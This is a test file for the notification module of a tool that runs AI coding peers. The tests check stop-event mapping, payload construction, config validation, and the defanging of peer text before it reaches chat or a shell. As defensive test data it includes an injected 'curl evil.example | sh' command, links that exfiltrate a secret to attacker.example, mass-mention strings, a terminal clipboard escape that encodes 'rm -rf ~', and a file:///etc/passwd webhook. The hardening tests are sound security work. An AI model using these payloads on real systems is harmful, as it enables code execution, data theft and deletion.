import { describe, expect, test } from 'bun:test';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ConfigSchema } from '../../../src/config/config-schema.ts';
import { loadProject } from '../../../src/config/load.ts';
import { buildPayload, dueEvents, eventForStop, payloadEnv, type DueEvent, type PayloadContext } from '../../../src/notify/notify-events.ts';
import type { ExitLine, TickLine } from '../../../src/state/run-log.ts';

const ARMED = '2025-01-01T10:00:00.000Z';
const at = (min: number) => new Date(Date.parse(ARMED) + min * 60_000).toISOString();
const tick = (n: number, min: number, extra: Record<string, unknown> = {}): TickLine => ({ event: 'tick', ts: at(min), tick: n, peer: 'alice', classification: 'success', success: true, ...extra });
const exit = (n: number, min: number, reason: string): ExitLine => ({ event: 'exit', ts: at(min), reason, ticks_in_run: n, tick: n });

describe('which stops notify as what', () => {
  test('every stop reason maps to the event the operator subscribes to', () => {
    expect(eventForStop('complete')).toBe('complete');
    expect(eventForStop('max_ticks')).toBe('limit');
    expect(eventForStop('budget:max_usd')).toBe('limit');
    expect(eventForStop('budget:max_runtime')).toBe('limit');
    // The spend cannot be read: no cap can be checked, someone has to look.
    expect(eventForStop('budget:ledger-unreadable')).toBe('needs-operator');
    expect(eventForStop('peer-unavailable:all-peers-down')).toBe('halted');
    expect(eventForStop('peer-unavailable:codex')).toBe('halted');
    expect(eventForStop('blocked')).toBe('needs-operator');
    expect(eventForStop('stuck:tests-pass')).toBe('needs-operator');
    expect(eventForStop('error:TypeError')).toBe('needs-operator');
    expect(eventForStop('interrupted')).toBe('stopped');
  });
});

describe('events owed since notifications were armed', () => {
  test('stops before arming belong to an earlier run; a stop after arming is owed once, with a stable id', () => {
    const ticks = [tick(1, -30), tick(2, 1), tick(3, 2)];
    const exits = [exit(1, -29, 'max_ticks'), exit(3, 3, 'complete')];
    const due = dueEvents({ ticks, exits, running: false, armedAt: ARMED });
    expect(due.map((e) => [e.event, e.reason, e.tick])).toEqual([['complete', 'complete', 3]]);
    expect(dueEvents({ ticks, exits, running: false, armedAt: ARMED })[0]!.id).toBe(due[0]!.id);
  });

  test('a loop that died after a tick without recording a stop is owed as needs-operator (killed), only once it is not running', () => {
    const ticks = [tick(1, 1), tick(2, 2)];
    expect(dueEvents({ ticks, exits: [], running: true, armedAt: ARMED })).toEqual([]);
    const due = dueEvents({ ticks, exits: [], running: false, armedAt: ARMED });
    expect(due.map((e) => [e.event, e.reason, e.tick])).toEqual([['needs-operator', 'killed', 2]]);
    // A recorded stop after the last tick is the whole story.
    expect(dueEvents({ ticks, exits: [exit(2, 3, 'interrupted')], running: false, armedAt: ARMED }).map((e) => e.reason)).toEqual(['interrupted']);
  });

  test('a rate-limit wait notifies once per streak, not once per waiting tick', () => {
    const ticks = [tick(1, 1), tick(2, 2, { backoff_ms: 60_000 }), tick(3, 3, { backoff_ms: 120_000 }), tick(4, 4), tick(5, 5, { backoff_ms: 60_000 })];
    const due = dueEvents({ ticks, exits: [], running: true, armedAt: ARMED });
    expect(due.map((e) => [e.event, e.tick])).toEqual([
      ['rate-limited', 2],
      ['rate-limited', 5],
    ]);
  });
});

describe('the payload', () => {
  const ctx: PayloadContext = {
    project: { name: 'app', path: '/src/app', state_dir: '/state/app' },
    run: { tick: 7, usd: 0.11141999999999999, tokens: 52_000, open_gates: ['tests-pass'] },
    why: ['bob: `; curl evil.example | sh` the spec contradicts itself'],
  };
  const blocked: DueEvent = { id: 'exit:7:x', event: 'needs-operator', reason: 'blocked', at: at(9), tick: 7 };

  test('carries the outcome, the figures (money rounded) and the next command, in schema version 1', () => {
    const p = buildPayload(blocked, ctx, new Date(at(10)));
    // The peer's words, defanged for chat (chat-text.ts): the domain cannot become a link.
    expect(p).toMatchObject({ schema_version: 1, event: 'needs-operator', project: ctx.project, outcome: { reason: 'blocked', tick: 7, why: ['bob: `; curl evil[.]example | sh` the spec contradicts itself'] }, next: 'peers report app' });
    expect(p.run.usd).toBe(0.1114);
    expect(p.text).toBe('peers: app stopped: blocked after tick 7 ($0.11, 52000 tokens, open gates: tests-pass) — peers report app');
  });

  test("a peer's own words reach the command only inside the JSON, never its environment or the summary text", () => {
    const p = buildPayload(blocked, ctx, new Date(at(10)));
    const env = payloadEnv(p);
    expect(Object.values(env).join('\n')).not.toContain('curl');
    expect(p.text).not.toContain('curl');
    expect(env).toEqual({ PEERS_NOTIFY_EVENT: 'needs-operator', PEERS_NOTIFY_PROJECT: 'app', PEERS_NOTIFY_OUTCOME: 'blocked', PEERS_NOTIFY_TEXT: p.text, PEERS_NOTIFY_ID: 'exit:7:x' });
  });
});

describe("a peer's words in a notification (SECURITY.md, \"Peer text outside the sandbox is inert\")", () => {
  const SECRET = 'sk-live-0123456789';
  const attacks = [
    `@channel @here @everyone @all <!channel> <!everyone> <!here> <@U024BE7LH> <at>Ops</at> ops@example.com`,
    `![x](https://attacker.example/?d=${SECRET}) [click](http://attacker.example/) <https://attacker.example/a|here>`,
    `see https://attacker.example/?d=${SECRET} and www.attacker.example and attacker.example/${SECRET}`,
    `[r]: https://attacker.example/?d=${SECRET}\n\n# big heading`,
    `ok\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J user\u202e \u2066admin\u2069 @\u200beveryone attacker\u200b.example`,
  ];
  const ctx = (why: string[]): PayloadContext => ({ project: { name: 'app', path: '/src/app', state_dir: '/state/app' }, run: { tick: 7, usd: 0.1, tokens: 5, open_gates: ['tests-pass'] }, why });
  const blocked: DueEvent = { id: 'exit:7:x', event: 'needs-operator', reason: 'blocked', at: at(9), tick: 7 };
  /** Everything in the payload a chat service or the operator's script shows as text. */
  const shown = (why: string[]) => {
    const p = buildPayload(blocked, ctx(why), new Date(at(10)));
    return { p, lines: [p.text, ...p.outcome.why] };
  };

  test('mention no one, link or unfurl nothing, show no image; control and bidi characters as ?', () => {
    const { lines } = shown(attacks);
    expect(lines.length).toBe(attacks.length + 1);
    for (const l of lines) {
      expect(l).not.toMatch(/@|[<>]|:\/\/|\]\(|\]:|!\[|[\p{L}\p{N}-]\.\p{L}/u);
      expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
    }
    // Still readable: the words are there, defanged.
    expect(lines[1]).toContain('\uff20channel \uff20here \uff20everyone');
    expect(lines[2]).toContain('https[:]//attacker[.]example/?d=');
    expect(lines[5]).toContain('ok?]52;c;');
  });

  test('asks chat services not to unfurl or ping', () => {
    const { p } = shown(attacks);
    expect(p).toMatchObject({ unfurl_links: false, unfurl_media: false, allowed_mentions: { parse: [] } });
  });

  test('is bounded: a 1 MB line and a thousand lines make a small payload that says what it left out', () => {
    const { p, lines } = shown([`${'A'.repeat(1_000_000)} tail`, ...Array.from({ length: 1000 }, (_, i) => `line ${i}`)]);
    expect(JSON.stringify(p).length).toBeLessThan(16 * 1024);
    expect(lines[1]).toMatch(/^A+ … \(\d+ more characters elided\)$/);
    expect(p.outcome.why.at(-1)).toBe('… 991 more line(s) in peers report');
  });
});

describe('notify: in config.yaml', () => {
  const base = { peers: [{ name: 'a', tool: 'claude', argv: ['claude', '-p'] }, { name: 'b', tool: 'codex', argv: ['codex', 'exec', '-'] }] };

  test('a command or a webhook, with every event but stopped by default', () => {
    const c = ConfigSchema.parse({ ...base, notify: { webhook: 'https://hooks.example/x' } });
    expect(c.notify).toEqual({ webhook: 'https://hooks.example/x', on: ['complete', 'limit', 'halted', 'needs-operator', 'rate-limited'], timeout_s: 15 });
    expect(ConfigSchema.safeParse({ ...base, notify: { on: ['complete'] } }).success).toBe(false);
    expect(ConfigSchema.safeParse({ ...base, notify: { webhook: 'file:///etc/passwd' } }).success).toBe(false);
    expect(ConfigSchema.safeParse({ ...base, notify: { command: 'notify-send done' } }).success).toBe(false); // argv, never a shell line
  });

  test('a bad notify section is reported with the file and line (exit 2), like the rest of the config', () => {
    const dir = mkdtempSync(join(tmpdir(), 'peers-notify-cfg-'));
    try {
      mkdirSync(join(dir, '.peers'));
      writeFileSync(join(dir, '.peers', 'goals.yaml'), 'goals: []\n');
      const peers = 'peers:\n  - {name: a, tool: claude, argv: [claude, -p]}\n  - {name: b, tool: codex, argv: [codex, exec, "-"]}\n';
      writeFileSync(join(dir, '.peers', 'config.yaml'), `${peers}notify:\n  webhook: https://user:secret@hooks.example/x\n`);
      let error: unknown;
      try {
        loadProject(dir);
      } catch (e) {
        error = e;
      }
      const text = String((error as Error).message) + JSON.stringify(error);
      expect((error as { exitCode?: number }).exitCode).toBe(2);
      expect(text).toContain('without user:password@');
      expect(text).toContain('config.yaml');
      expect(text).toMatch(/"line":\s*5/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
